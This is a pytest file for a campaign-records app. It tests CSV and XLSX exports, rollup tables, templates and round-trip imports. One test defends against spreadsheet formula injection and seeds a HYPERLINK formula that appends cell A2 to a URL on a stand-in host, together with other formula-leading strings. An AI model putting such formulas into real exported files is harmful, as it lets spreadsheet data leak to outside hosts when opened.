"""Exports of records (.csv with a BOM, .xlsx) that import again, rollup tables, and the
empty templates."""

import csv
import datetime
import io

import openpyxl
import pytest

from campaigndesk.accounts.scoping import SYSTEM
from campaigndesk.common.errors import DomainError
from campaigndesk.ledger.io.columns import columns_for
from campaigndesk.ledger.io.exports import export_records, export_rollup
from campaigndesk.ledger.io.templates import template_file
from campaigndesk.ledger.models import EventRecord, Indicator, MaterialRecord
from campaigndesk.ledger.rollup import RollupFilter, rollup
from campaigndesk.ledger.services import record_create

from .io_files import (
    GOOD,
    csv_bytes,
    good_file,
    io_world,
    run_import,
    second_campaign,
    xlsx_bytes,
)

__all__ = ["io_world"]

KINDS = ["output", "material", "event", "figure"]


def fill(campaign, actor=SYSTEM):
    for kind in KINDS:
        data, name = good_file(kind)
        run_import(actor, campaign, kind, data, name)


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"))))


def read_xlsx(data: bytes) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    return list(workbook.worksheets[0].iter_rows(values_only=True))


def all_figures(campaign, group_by=()):
    result = rollup(actor=SYSTEM, campaign=campaign, group_by=group_by)
    return sorted(
        (r.indicator.code, tuple(sorted(r.group.items())), r.value, r.approx) for r in result.rows
    )


def test_csv_export_has_the_template_columns_and_a_bom(io_world):
    fill(io_world.campaign)
    data = export_records(
        actor=SYSTEM, campaign=io_world.campaign, record_kind="event", format="csv"
    ).read()
    rows = read_csv(data)
    assert rows[0] == [c.header for c in columns_for("event")]
    assert len(rows) == 4
    # Oldest first; labels, not codes.
    assert rows[1][:8] == [
        "楚雄市融媒体中心",
        "532301",
        "2024-01-31",
        "入户走访",
        "",
        "5",
        "0",
        "",
    ]
    assert rows[2][3:7] == ["宣讲", "政策宣讲进安置点", "12", "860"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_into_another_campaign_gives_the_same_rollup(io_world, fmt):
    source = io_world.campaign
    fill(source)
    target = second_campaign(io_world)
    for kind in KINDS:
        export = export_records(actor=SYSTEM, campaign=source, record_kind=kind, format=fmt)
        assert export.filename.endswith(f".{fmt}")
        result = run_import(SYSTEM, target, kind, export.read(), export.filename)
        assert result.created == 3, kind
    assert all_figures(target) == all_figures(source)
    assert all_figures(target, ["township", "kind"]) == all_figures(source, ["township", "kind"])


def test_xlsx_export_cells_are_typed(io_world):
    fill(io_world.campaign)
    rows = read_xlsx(
        export_records(
            actor=SYSTEM, campaign=io_world.campaign, record_kind="material", format="xlsx"
        ).read()
    )
    assert rows[0][:5] == ("单位", "行政区划代码", "日期", "类型", "数量")
    first = rows[1]
    assert first[1] == "532301" and first[2].date().isoformat() == "2024-02-05"
    assert first[3] == "横幅" and first[4] == 1800
    assert rows[2][6] == 6200.5


def test_export_is_scoped_and_filtered(io_world):
    fill(io_world.campaign)
    world = io_world.world
    rows = read_csv(
        export_records(
            actor=world.reporter, campaign=io_world.campaign, record_kind="event", format="csv"
        ).read()
    )
    assert {r[0] for r in rows[1:]} == {"鹿城镇人民政府"} and len(rows) == 3
    rows = read_csv(
        export_records(
            actor=SYSTEM,
            campaign=io_world.campaign,
            record_kind="event",
            filters=RollupFilter(region=world.village),
            format="csv",
        ).read()
    )
    assert [r[3] for r in rows[1:]] == ["宣讲"]


def test_unknown_kind_or_format(io_world):
    with pytest.raises(DomainError):
        export_records(actor=SYSTEM, campaign=io_world.campaign, record_kind="poem")
    with pytest.raises(DomainError):
        export_records(actor=SYSTEM, campaign=io_world.campaign, record_kind="event", format="pdf")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_rollup_table(io_world, fmt):
    fill(io_world.campaign)
    codes = ["lectures", "event_participants", "views_cumulative", "banners"]
    result = rollup(
        actor=SYSTEM, campaign=io_world.campaign, group_by=["township"], indicators=codes
    )
    export = export_rollup(
        actor=SYSTEM,
        campaign=io_world.campaign,
        group_by=["township"],
        indicators=codes,
        format=fmt,
    )
    data = export.read()
    rows = read_csv(data) if fmt == "csv" else [list(r) for r in read_xlsx(data)]
    assert rows[0] == ["指标代码", "指标", "乡镇代码", "乡(镇)", "数值", "近似", "量词", "表述"]
    table = {(r[0], r[2] or "", r[3]): r for r in rows[1:]}
    assert len(table) == len(result.rows)
    for row in result.rows:
        if not row.group:
            key = (row.indicator.code, "", "合计")
        elif row.group["township"]:
            key = (row.indicator.code, row.group["township"], "鹿城镇")
        else:
            key = (row.indicator.code, "", "（无）")
        assert str(table[key][4]) == str(row.value)
    total = table[("event_participants", "", "合计")]
    assert str(total[4]) == "1260" and total[7] == "1260人次"
    # The banners were hung on the county itself: no township.
    assert str(table[("banners", "", "（无）")][4]) == "1800"
    lectures = table[("lectures", "532301001", "鹿城镇")]
    assert lectures[3] == "鹿城镇" and str(lectures[4]) == "12"


def test_rollup_table_marks_approximate_totals(io_world):
    fill(io_world.campaign)
    export = export_rollup(
        actor=SYSTEM,
        campaign=io_world.campaign,
        filters=RollupFilter(as_of=io_world.campaign.start_date.replace(month=2, day=15)),
        indicators=["views_cumulative"],
    )
    rows = read_csv(export.read())
    assert rows[1][2:] == ["10000", "余", "次", "10000余次"]


@pytest.mark.parametrize("kind", KINDS)
def test_templates(io_world, kind):
    headers = [c.header for c in columns_for(kind)]
    assert read_csv(template_file(record_kind=kind, format="csv")) == [headers]
    data = template_file(record_kind=kind, format="xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    first = workbook.worksheets[0]
    assert [c.value for c in first[1]] == headers
    notes = workbook["说明"]
    assert [notes.cell(row=n + 2, column=1).value for n in range(len(headers))] == headers
    if kind == "figure":
        codes = {row[0] for row in workbook["指标"].iter_rows(min_row=2, values_only=True)}
        assert "respondents" in codes and "awareness_rate" not in codes
        assert (
            len(codes) == Indicator.objects.exclude(aggregation__in=["distinct", "ratio"]).count()
        )
    # Filled in, the template imports.
    for row in GOOD[kind]:
        first.append([dict(zip(headers_of(kind), row, strict=True)).get(h, None) for h in headers])
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = run_import(SYSTEM, io_world.campaign, kind, buffer.getvalue(), "filled.xlsx")
    assert result.created == 3


def headers_of(kind):
    from .io_files import HEADERS

    return HEADERS[kind]


def test_template_rejects_unknown_kind():
    with pytest.raises(DomainError):
        template_file(record_kind="poem", format="csv")


def test_xlsx_bytes_helper_sanity():
    # The helper writes blanks as empty cells (what Excel does).
    rows = read_xlsx(xlsx_bytes([["a", ""], ["", "b"]]))
    assert rows == [("a", None), (None, "b")]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_text_a_spreadsheet_would_run_is_exported_as_text_and_imports_again(io_world, fmt):
    titles = ['=HYPERLINK("http://x.example/?"&A2,"点击")', "+1 宣讲", "-专场-", "@所有人"]
    for title in titles:
        record_create(
            actor=SYSTEM,
            campaign=io_world.campaign,
            record_kind="event",
            unit=io_world.world.township_unit,
            date=datetime.date(2024, 2, 7),
            kind="lecture",
            title=title,
            sessions=1,
            participants=10,
            site="礼堂\x0b二楼\x01",  # control characters pasted from Word
        )
    export = export_records(
        actor=SYSTEM, campaign=io_world.campaign, record_kind="event", format=fmt
    ).read()
    if fmt == "csv":
        header, *rows = read_csv(export)
        cells = [row[header.index("标题")] for row in rows]
        # An apostrophe first: Excel shows the text instead of running it.
        assert sorted(cells) == sorted("'" + title for title in titles)
    else:
        workbook = openpyxl.load_workbook(io.BytesIO(export))
        sheet = workbook.worksheets[0]
        header = [cell.value for cell in sheet[1]]
        title, site = header.index("标题") + 1, header.index("地点") + 1
        cells = [sheet.cell(row=n, column=title) for n in range(2, 6)]
        assert all(cell.data_type == "s" for cell in cells), "a formula would run"
        assert sorted(cell.value for cell in cells) == sorted(titles)
        assert {sheet.cell(row=n, column=site).value for n in range(2, 6)} == {"礼堂二楼"}
    target = second_campaign(io_world)
    result = run_import(SYSTEM, target, "event", export, f"events.{fmt}")
    assert result.created == 4
    assert sorted(EventRecord.objects.filter(campaign=target).values_list("title", flat=True)) == (
        sorted(titles)
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_text_beginning_with_an_apostrophe_comes_back_as_written(io_world, fmt):
    titles = ["'=不是公式", "''+两个撇号", "'只是撇号", "=公式样"]
    for title in titles:
        record_create(
            actor=SYSTEM,
            campaign=io_world.campaign,
            record_kind="event",
            unit=io_world.world.township_unit,
            date=datetime.date(2024, 2, 7),
            kind="lecture",
            title=title,
            sessions=1,
            participants=10,
        )
    export = export_records(
        actor=SYSTEM, campaign=io_world.campaign, record_kind="event", format=fmt
    ).read()
    target = second_campaign(io_world)
    run_import(SYSTEM, target, "event", export, f"events.{fmt}")
    assert sorted(EventRecord.objects.filter(campaign=target).values_list("title", flat=True)) == (
        sorted(titles)
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_longest_note_a_record_takes_exports_and_imports_again(io_world, fmt):
    record_create(
        actor=SYSTEM,
        campaign=io_world.campaign,
        record_kind="event",
        unit=io_world.world.township_unit,
        date=datetime.date(2024, 2, 7),
        kind="lecture",
        sessions=1,
        participants=10,
        note="长" * 2000,
    )
    export = export_records(
        actor=SYSTEM, campaign=io_world.campaign, record_kind="event", format=fmt
    ).read()
    target = second_campaign(io_world)
    run_import(SYSTEM, target, "event", export, f"events.{fmt}")
    assert EventRecord.objects.get(campaign=target).note == "长" * 2000


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_edited_and_imported_again_updates_the_records_entered_by_hand(io_world, fmt):
    """A record entered by hand has no external id: the export names it #id, so that the
    office can correct the file and import it again without doubling anything."""
    campaign = io_world.campaign
    by_hand = record_create(
        actor=SYSTEM,
        campaign=campaign,
        record_kind="material",
        unit=io_world.world.township_unit,
        date=datetime.date(2024, 2, 7),
        kind="banner",
        quantity=10,
    ).record
    export = export_records(actor=SYSTEM, campaign=campaign, record_kind="material", format=fmt)
    data = export.read()
    header, row = (read_csv(data) if fmt == "csv" else read_xlsx(data))[:2]
    assert row[header.index("外部编号")] == f"#{by_hand.pk}"
    edited = [list(header), [*row]]
    edited[1][header.index("数量")] = "12"
    again = csv_bytes(edited) if fmt == "csv" else xlsx_bytes(edited)
    result = run_import(SYSTEM, campaign, "material", again, f"edited.{fmt}")
    assert (result.created, result.updated) == (0, 1)
    by_hand.refresh_from_db()
    assert by_hand.quantity == 12 and by_hand.external_id == ""
    assert MaterialRecord.objects.filter(campaign=campaign).count() == 1
    # Into another campaign the rows are new records, without the first one's name.
    target = second_campaign(io_world)
    result = run_import(SYSTEM, target, "material", again, f"edited.{fmt}")
    assert result.created == 1
    assert MaterialRecord.objects.get(campaign=target).external_id == ""
